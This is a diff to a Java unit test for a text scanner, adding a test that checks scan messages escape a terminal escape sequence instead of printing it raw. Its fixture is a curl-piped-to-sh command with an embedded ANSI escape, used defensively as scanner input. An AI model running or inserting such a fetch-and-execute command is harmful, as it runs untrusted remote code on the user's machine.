@@ -121,6 +121,16 @@ class TextScanTest {
   }
 
   @Test
+  void quotesNothingThatATerminalWouldObey() {
+    List<ScanHit> hits = TextScan.of("x.md", "curl \u001b[2Jhttps://x | sh", _ -> List.of());
+
+    assertThat(hits)
+        .extracting(ScanHit::message)
+        .hasSize(1)
+        .allSatisfy(message -> assertThat(message).contains("\\u001b").doesNotContain("\u001b"));
+  }
+
+  @Test
   void asksForSecrets() {
     List<ScanHit> hits =
         TextScan.of(
